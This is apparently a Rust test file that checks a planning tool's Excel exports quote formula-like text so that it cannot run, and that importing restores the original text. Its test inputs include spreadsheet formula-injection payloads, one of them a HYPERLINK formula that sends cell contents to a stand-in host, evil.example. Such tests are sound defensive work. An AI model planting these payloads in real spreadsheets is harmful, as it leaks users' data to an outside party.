//! Workbooks pantau writes open safely in a spreadsheet: formula-like text in a masterplan goes
//! through `pantau plan export` and `pantau report` (the real binary), and every cell read back
//! with calamine is text that cannot run, quoted by the one neutraliser (`values::neutralise`),
//! while `pantau plan import` gives the plan's own text back. (`pantau export`'s CSV is in
//! tests/uploads.rs.)

mod common;

use calamine::{Data, Reader, Xlsx};
use common::*;
use std::path::Path;

/// Text that a spreadsheet would run, with the cell pantau must write for it.
const HOSTILE: &[(&str, &str)] = &[
    (
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
    ),
    ("+62 812 555", "'+62 812 555"),
    ("-2+3 Program", "'-2+3 Program"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    // The full-width forms run too (Excel reads them as their ASCII twins).
    ("＝1+1 Kota", "'＝1+1 Kota"),
    ("＋1 orang", "'＋1 orang"),
    ("－1 Unit", "'－1 Unit"),
    ("＠SUM Target", "'＠SUM Target"),
];

/// A masterplan whose names are the hostile texts: department, dimension, program, indicator
/// names, unit and dimension elements.
fn plan() -> String {
    let t = |i: usize| serde_json::to_string(HOSTILE[i].0).unwrap();
    format!(
        r#"
[[department]]
id = "dinkes"
name = {}
[[dimension]]
id = "living"
name = {}
elements = [{}]
[[program]]
id = "living.health"
dimension = "living"
name = {}
department = "dinkes"
horizon = "medium"
start = 2024-01-01
due = 2027-12-31
[[indicator]]
id = "living.health.visits"
program = "living.health"
name = {}
unit = {}
direction = "increase"
baseline = {{ date = 2024-01-01, value = 0.0 }}
targets = [{{ date = 2026-12-31, value = 100.0 }}, {{ date = 2027-12-31, value = 200.0 }}]
update_every = "1d"
[[indicator]]
id = "living.health.beds"
program = "living.health"
name = {}
unit = {}
direction = "increase"
baseline = {{ date = 2024-01-01, value = 0.0 }}
targets = [{{ date = 2026-12-31, value = 10.0 }}]
update_every = "1d"
"#,
        t(0),
        t(1),
        t(4),
        t(2),
        t(3),
        t(5),
        t(6),
        t(7),
    )
}

/// Every text cell of every sheet of the workbook at `path`, and how many formulas it holds.
fn texts(path: &Path) -> (Vec<String>, usize) {
    let mut book: Xlsx<_> = calamine::open_workbook(path).unwrap();
    let mut cells = Vec::new();
    let mut formulas = 0;
    for name in book.sheet_names() {
        let range = book.worksheet_range(&name).unwrap();
        cells.extend(range.used_cells().filter_map(|(_, _, v)| match v {
            Data::String(s) => Some(s.clone()),
            _ => None,
        }));
        formulas += book
            .worksheet_formula(&name)
            .unwrap()
            .used_cells()
            .filter(|(_, _, f)| !f.is_empty())
            .count();
    }
    (cells, formulas)
}

/// No cell starts a formula, and each hostile text is there, quoted.
fn assert_neutralised(what: &str, path: &Path, must_hold: &[usize]) {
    let (cells, formulas) = texts(path);
    assert_eq!(formulas, 0, "{what}: formulas");
    // `-` alone is the plan template's mark for "no value": a string cell, and no formula.
    for cell in cells.iter().filter(|c| *c != "-") {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']),
            "{what}: a cell starts a formula: {cell:?}"
        );
        assert!(
            !cell.chars().any(|c| c.is_control() && c != '\n'),
            "{what}: a control character in {cell:?}"
        );
    }
    for &i in must_hold {
        let want = HOSTILE[i].1;
        assert!(
            cells
                .iter()
                .any(|c| c == want || c.starts_with(&format!("{want} "))),
            "{what}: no cell reads {want:?}: {cells:?}"
        );
    }
}

fn masterplan(text: &str) -> pantau::domain::Masterplan {
    let mut problems = Vec::new();
    match pantau::config::parse_masterplan(text, "masterplan.toml", &[], &mut problems) {
        Some((plan, _)) => plan,
        None => panic!("{problems:?}"),
    }
}

fn run(args: &[&str]) -> String {
    let out = pantau_output(args);
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "pantau {args:?}: {text}");
    text
}

#[test]
fn plan_export_quotes_formula_text_and_plan_import_gives_it_back() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = write_config(dir.path(), &plan(), "");
    let cfg = cfg.to_str().unwrap();
    let book = dir.path().join("rencana.xlsx");
    run(&["--config", cfg, "plan", "export", book.to_str().unwrap()]);
    assert_neutralised(
        "plan export",
        &book,
        &(0..HOSTILE.len()).collect::<Vec<_>>(),
    );

    // The quote is the export's, not the plan's: importing the workbook gives the text back.
    let again = dir.path().join("again.toml");
    run(&[
        "plan",
        "import",
        book.to_str().unwrap(),
        "--out",
        again.to_str().unwrap(),
    ]);
    let original = masterplan(&plan());
    let back = masterplan(&std::fs::read_to_string(&again).unwrap());
    assert_eq!(back.departments[0].name, original.departments[0].name);
    assert_eq!(back.dimensions[0].name, original.dimensions[0].name);
    assert_eq!(back.programs[0].name, original.programs[0].name);
    for (b, o) in back.indicators.iter().zip(&original.indicators) {
        assert_eq!((&b.name, &b.unit), (&o.name, &o.unit));
    }
}

#[test]
fn the_report_workbook_quotes_formula_text_in_every_form() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = write_config(dir.path(), &plan(), "");
    let rows = dir.path().join("rows.csv");
    std::fs::write(
        &rows,
        "indicator,time,value\nliving.health.visits,2026-06-30,40\nliving.health.beds,2026-06-30,4\n",
    )
    .unwrap();
    let cfg = cfg.to_str().unwrap();
    run(&[
        "--config",
        cfg,
        "import",
        "--create",
        rows.to_str().unwrap(),
    ]);
    let report = dir.path().join("laporan.xlsx");
    run(&[
        "--config",
        cfg,
        "report",
        "--year",
        "2026",
        "--out",
        report.to_str().unwrap(),
    ]);
    // The department, the dimension, the indicators' names and units are in the report's own
    // cells (the program's name follows "Program: ", and the elements are not shown).
    assert_neutralised("report", &report, &[0, 1, 3, 5, 6, 7]);
}
